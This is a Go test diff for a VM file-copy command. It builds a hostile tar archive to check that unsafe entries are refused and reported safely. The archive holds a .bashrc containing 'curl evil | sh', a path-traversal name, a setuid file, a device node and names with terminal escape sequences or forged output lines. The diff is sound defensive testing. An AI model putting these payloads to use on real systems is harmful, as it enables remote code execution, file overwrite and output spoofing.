@@ -1,6 +1,8 @@
 package cli
 
 import (
+	"archive/tar"
+	"bytes"
 	"context"
 	"errors"
 	"fmt"
@@ -20,6 +22,8 @@ import (
 	"github.com/bangervm/banger/internal/agent"
 	"github.com/bangervm/banger/internal/agentproto"
 	"github.com/bangervm/banger/internal/apiserver"
+	"github.com/bangervm/banger/internal/paths"
+	"github.com/bangervm/banger/internal/testutil"
 )
 
 func TestParseCpArgs(t *testing.T) {
@@ -87,9 +91,15 @@ func (v agentVMs) Session(string) func() { return func() {} }
 // machine, through a real agent handler.
 func serveCp(t *testing.T) *client.Client {
 	t.Helper()
+	return serveCpWith(t, agent.NewHandler(agent.HandlerConfig{}))
+}
+
+// serveCpWith is serveCp with the agent's handler h.
+func serveCpWith(t *testing.T, h agentproto.Handler) *client.Client {
+	t.Helper()
 	log := slog.New(slog.NewTextHandler(io.Discard, nil))
 	host, guest := net.Pipe()
-	srv := &agentproto.Server{Handler: agent.NewHandler(agent.HandlerConfig{Logger: log}), AgentVersion: "test", Logger: log}
+	srv := &agentproto.Server{Handler: h, AgentVersion: "test", Logger: log}
 	ctx, cancel := context.WithCancel(context.Background())
 	done := make(chan struct{})
 	go func() { defer close(done); _ = srv.ServeConn(ctx, guest) }()
@@ -124,7 +134,7 @@ func TestVMCpRoundTrip(t *testing.T) {
 		if err != nil {
 			t.Fatal(err)
 		}
-		return runVMCp(ctx, c, o)
+		return runVMCp(ctx, c, o, io.Discard)
 	}
 	read := func(p string) string {
 		b, _ := os.ReadFile(p)
@@ -178,5 +188,69 @@ func TestVMCpRoundTrip(t *testing.T) {
 	}
 	if err := cp(src, "nobox:/x"); !errdefs.IsNotFound(err) || !strings.Contains(err.Error(), `vm "nobox"`) {
 		t.Errorf("missing vm: %v", err)
+	}
+}
+
+// hostileAgent is a real agent handler whose archives are replaced by a
+// hostile one.
+type hostileAgent struct {
+	*agent.Handler
+	tar []byte
+}
+
+func (h hostileAgent) TarOut(ctx context.Context, path string) (io.ReadCloser, error) {
+	return io.NopCloser(bytes.NewReader(h.tar)), nil
+}
+
+// TestVMCpFromHostileVM: entries a hostile agent adds to the archive of
+// box:/src are refused and each named, escaped, on stderr; the rest lands;
+// the exit status is 1.
+func TestVMCpFromHostileVM(t *testing.T) {
+	type E = testutil.TarEntry
+	tb := testutil.Tar(t,
+		E{Name: "src/", Type: tar.TypeDir},
+		E{Name: "src/ok", Body: "fine"},
+		E{Name: "src/suid", Body: "x", Mode: 0o4755},
+		E{Name: ".bashrc", Body: "curl evil | sh"},
+		E{Name: "src/../../escape", Body: "x"},
+		E{Name: "src/fifo\x1b]0;pwned\x07", Type: tar.TypeFifo},
+		E{Name: "src/null", Type: tar.TypeChar, Mode: 0o666},
+		E{Name: "src/x\nbanger: all copied", Type: tar.TypeFifo},
+	)
+	c := serveCpWith(t, hostileAgent{Handler: agent.NewHandler(agent.HandlerConfig{}), tar: tb})
+	ios, _, stderr := TestStreams()
+	f := &Factory{IO: ios, Layout: paths.Under(t.TempDir()), Client: func(context.Context) (*client.Client, error) { return c, nil }}
+	dst := t.TempDir()
+	if code := Run(f, []string{"vm", "cp", "box:/src", dst}); code != ExitFailure {
+		t.Errorf("exit %d, want %d", code, ExitFailure)
+	}
+	out := stderr.String()
+	for _, want := range []string{
+		"not copied: .bashrc: ",
+		"not copied: src/../../escape: ",
+		"]0;pwned",
+		": FIFO not extracted",
+		"not copied: src/null: character device not extracted",
+		"5 entries refused",
+	} {
+		if !strings.Contains(out, want) {
+			t.Errorf("stderr lacks %q:\n%s", want, out)
+		}
+	}
+	if strings.Contains(out, "\nbanger: all copied") {
+		t.Errorf("an entry name forged a line of output:\n%s", out)
+	}
+	if strings.ContainsAny(out, "\x1b\x07") {
+		t.Errorf("raw control characters on stderr: %q", out)
+	}
+	if b, _ := os.ReadFile(filepath.Join(dst, "src", "ok")); string(b) != "fine" {
+		t.Errorf("src/ok = %q", b)
+	}
+	if fi, err := os.Stat(filepath.Join(dst, "src", "suid")); err != nil || fi.Mode() != 0o755 {
+		t.Errorf("src/suid: %v %v", fi, err)
+	}
+	ents, _ := os.ReadDir(dst)
+	if len(ents) != 1 {
+		t.Errorf("dst holds %v", ents)
 	}
 }
